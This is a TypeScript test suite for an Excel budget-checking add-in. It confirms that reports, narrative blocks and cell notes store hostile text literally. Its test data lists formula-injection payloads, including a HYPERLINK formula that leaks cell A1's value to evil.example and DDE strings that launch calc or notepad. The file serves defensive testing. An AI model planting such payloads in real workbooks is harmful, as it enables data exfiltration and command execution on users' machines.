import type { CheckResult } from '../../src/engine/checkWorkbook';
import type { Finding } from '../../src/engine/findings';
import type { SheetGrid } from '../../src/engine/grid';
import { NARRATIVE_SECTION_IDS, type NarrativeSection } from '../../src/engine/narrative';
import { createWorkbookAdapter } from '../../src/excel/createWorkbookAdapter';
import { cellTextOf, literalCellValue, noteContent } from '../../src/excel/literalText';
import { NOTE_PREFIX } from '../../src/excel/markColors';
import { REPORT_SHEET_NAME } from '../../src/report/reportRows';
import { writeValue } from '../../src/preview/memoryExcel/cellWrite';
import { createMemoryRunner, MemoryWorkbook, type MemoryCell } from '../../src/preview/memoryExcel';
import { contentsOf, finding } from './workbookState';

/** Texts that would become a formula, a link, a DDE call or a broken cell if written as they are. */
const HOSTILE = [
  '=1+1',
  '+1',
  '-1.00',
  '@SUM(A1:A2)',
  '=HYPERLINK("http://evil.example/?q="&A1,"点此查看")',
  "=cmd|' /C calc'!A0",
  "@cmd|'/c notepad'!_xlbgnm.A1",
  '\t=1+1',
  '\r\n=HYPERLINK("http://evil.example")',
  '\u0000=2*3\u0007',
  '＝1+1',
  '－5',
  "'=1+1",
  "'单引号开头",
  '项目名称\t含制表符\n与换行',
];

const NO_CONTROL = /^\P{Cc}*$/u;

function stored(wb: MemoryWorkbook, sheetName: string): Array<{ row: number; col: number; cell: MemoryCell }> {
  const out: Array<{ row: number; col: number; cell: MemoryCell }> = [];
  wb.sheet(sheetName).forEachCell((row, col, cell) => out.push({ row, col, cell }));
  return out;
}

function expectLiteral(cell: MemoryCell | undefined, text: string, where: string): void {
  expect({ where, value: cell?.value, formula: cell?.formula, numberFormat: cell?.numberFormat }).toEqual({
    where,
    value: cellTextOf(text),
    formula: undefined,
    numberFormat: '@',
  });
}

function dataSheet(): SheetGrid {
  return {
    name: '表1',
    merges: [],
    rows: Array.from({ length: 6 }, (_, r) => Array.from({ length: 4 }, (_, c) => ({ value: r * 4 + c }))),
  };
}

describe('literalCellValue', () => {
  it.each(HOSTILE)('%j is stored as its text, in a text cell and even in a General cell', (text) => {
    for (const numberFormat of ['@', undefined]) {
      const cell: MemoryCell = { value: null, ...(numberFormat ? { numberFormat } : {}) };
      writeValue(cell, literalCellValue(text));
      expect(cell.formula).toBeUndefined();
      expect(cell.value).toBe(cellTextOf(text));
      expect(String(cell.value)).toMatch(NO_CONTROL);
    }
  });

  it('leaves ordinary text alone and strips control characters from notes but keeps their line breaks', () => {
    expect(literalCellValue('一般公共预算收入 384.34 万元')).toBe('一般公共预算收入 384.34 万元');
    expect(noteContent('a\tb\r\nc\u0000\u0007d\ne')).toBe('ab\ncd\ne');
  });
});

describe('every writer stores hostile text as literal text', () => {
  it('校验报告: messages, expected and actual, sheet names of cells, the unit', async () => {
    const wb = MemoryWorkbook.fromGrid({ sheets: [dataSheet()] });
    const before = contentsOf(wb, ['表1']);
    const findings: Finding[] = HOSTILE.map((text, i) => ({
      ...finding('error', [['表1', 'B2']], text),
      expected: HOSTILE[(i + 1) % HOSTILE.length],
      actual: HOSTILE[(i + 2) % HOSTILE.length],
    }));
    const result: CheckResult = {
      template: 'hebei',
      templateName: '河北省部门预算公开模板',
      document: 'budget',
      diagnosis: [],
      unit: '=HYPERLINK("http://evil.example")',
      year: 2024,
      tables: [],
      missingTables: [],
      findings,
      summary: { error: findings.length, warning: 0, info: 0 },
      workbook: { tables: [] },
    };
    await createWorkbookAdapter(createMemoryRunner(wb)).writeReport(result);

    const cells = stored(wb, REPORT_SHEET_NAME);
    for (const { row, col, cell } of cells) {
      expect({ at: [row, col], formula: cell.formula, numberFormat: cell.numberFormat }).toEqual({
        at: [row, col],
        formula: undefined,
        numberFormat: '@',
      });
      expect(String(cell.value ?? '')).toMatch(NO_CONTROL);
    }
    // The message column (E) holds each message's text exactly, control characters removed.
    const header = cells.find(({ cell }) => cell.value === '说明')!;
    HOSTILE.forEach((text, i) => {
      const cell = wb.sheet(REPORT_SHEET_NAME).cell(header.row + 1 + i, header.col);
      expectLiteral(cell, text, `report message ${i}`);
      const expected = wb.sheet(REPORT_SHEET_NAME).cell(header.row + 1 + i, header.col + 2);
      expectLiteral(expected, HOSTILE[(i + 1) % HOSTILE.length], `report expected ${i}`);
    });
    expect(cells.map(({ cell }) => cell.value)).toContain('单位：=HYPERLINK("http://evil.example")');
    expect(contentsOf(wb, ['表1'])).toBe(before);

    // Read back through the adapter: no cell of the report is a formula.
    const grid = await createWorkbookAdapter(createMemoryRunner(wb)).readWorkbook();
    const report = grid.sheets.find((s) => s.name === REPORT_SHEET_NAME)!;
    expect(report.rows.flat().filter((c) => c?.formula !== undefined)).toEqual([]);
  });

  function sectionsWith(texts: readonly string[]): NarrativeSection[] {
    return NARRATIVE_SECTION_IDS.map((id, i) => ({
      id,
      title: texts[(i + 3) % texts.length],
      text: texts[i % texts.length],
      notes: [],
    }));
  }

  it.each([0, 8])('情况说明 block (texts from %i on): titles, texts and the new sheet’s title', async (offset) => {
    const texts = [...HOSTILE.slice(offset), ...HOSTILE.slice(0, offset)];
    const wb = MemoryWorkbook.fromGrid({ sheets: [dataSheet()] });
    const result = await createWorkbookAdapter(createMemoryRunner(wb)).insertNarrative(sectionsWith(texts), {
      unit: "=cmd|' /C calc'!A0",
      year: 2024,
    });
    expect(result.sheet).toBe('情况说明');
    const sheet = wb.sheet('情况说明');
    expectLiteral(sheet.cell(0, 0), "=cmd|' /C calc'!A0" + '2024年部门预算信息公开情况说明', 'sheet title');
    NARRATIVE_SECTION_IDS.forEach((_, i) => {
      expectLiteral(sheet.cell(2 + 2 * i, 0), `${i + 1}、${texts[(i + 3) % texts.length]}`, `heading ${i}`);
      expectLiteral(sheet.cell(3 + 2 * i, 0), texts[i % texts.length], `text ${i}`);
    });
  });

  it('情况说明 block at a selected empty cell of a data sheet', async () => {
    const wb = MemoryWorkbook.fromGrid({ sheets: [dataSheet()] });
    const before = contentsOf(wb, ['表1']);
    wb.selection = { sheetId: wb.sheet('表1').id, addresses: ['F2'] };
    const result = await createWorkbookAdapter(createMemoryRunner(wb)).insertNarrative(sectionsWith(HOSTILE), {
      atSelection: true,
    });
    expect(result).toMatchObject({ sheet: '表1', address: 'F2:F17' });
    NARRATIVE_SECTION_IDS.forEach((_, i) => expectLiteral(wb.sheet('表1').cell(2 + 2 * i, 5), HOSTILE[i], `text ${i}`));
    const outside = MemoryWorkbook.fromJSON(wb.toJSON());
    for (let r = 1; r <= 16; r++) outside.sheet('表1').cells.delete(`${r},5`);
    expect(contentsOf(outside, ['表1'])).toBe(before);
  });

  it('notes: hostile messages are plain note text behind our prefix, no control character but line breaks', async () => {
    const wb = MemoryWorkbook.fromGrid({ sheets: [dataSheet()] });
    const before = contentsOf(wb, ['表1']);
    const findings = HOSTILE.map((text, i) => finding('warning', [['表1', `${'ABCD'[i % 4]}${1 + (i % 6)}`]], text));
    const result = await createWorkbookAdapter(createMemoryRunner(wb)).markFindings(findings);
    expect(result.notes).toBeGreaterThan(0);
    const notes = wb.notes.map((n) => n.content);
    expect(notes).toHaveLength(result.notes);
    for (const content of notes) {
      expect(content.startsWith(NOTE_PREFIX)).toBe(true);
      expect(content.replace(/\n/g, '')).toMatch(NO_CONTROL);
    }
    const all = notes.join('\n');
    for (const text of HOSTILE) expect(all).toContain(noteContent(text));
    expect(contentsOf(wb, ['表1'])).toBe(before);
  });
});
